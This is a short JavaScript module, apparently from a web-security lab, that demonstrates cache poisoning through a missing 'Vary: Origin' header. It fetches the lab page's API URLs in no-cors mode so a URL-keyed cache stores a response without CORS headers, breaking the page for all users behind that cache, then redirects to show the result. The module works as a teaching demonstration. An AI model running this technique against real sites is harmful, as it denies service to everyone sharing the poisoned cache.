// Cache poisoning through a missing `Vary: Origin`. This page fetches, in `no-cors` mode,
// the URLs the lab page calls, as an <img> or <script> tag would: without `Origin`. The API
// answers without Access-Control-Allow-Origin (there is no origin to allow), and a cache in
// front of it that keys by URL alone, because the answer does not say `Vary: Origin`,
// keeps that copy and hands it to the lab page's own fetches until it expires. The attacker
// reads nothing: it breaks the page, for everyone behind the cache. Then this page opens
// what the lab page gets, on the lab page's own origin.

import { CALLS, urlOf } from "./calls.js";
import { config, progress, report } from "./common.js";

const planted = [];
for (const name of config.broken) {
  const url = urlOf(CALLS[name]({}));
  try {
    const res = await fetch(url, { mode: "no-cors" });
    planted.push({ url, response: res.type });
  } catch (e) {
    planted.push({ url, error: `${e.name}: ${e.message}` });
  }
}
await report({ against: config.against, planted });

const view = new URL(config.page_view);
for (const [key, value] of [["lab", config.lab], ["lang", config.lang], ["against", config.against === "default" ? "default" : null]]) {
  if (value) view.searchParams.set(key, value);
}
progress("planted", {
  en: "Planted the copy in the cache. Opening what the lab page gets…",
  ja: "キャッシュに写しを置きました。ラボのページが受け取るものを開きます…",
});
location.assign(view.href);
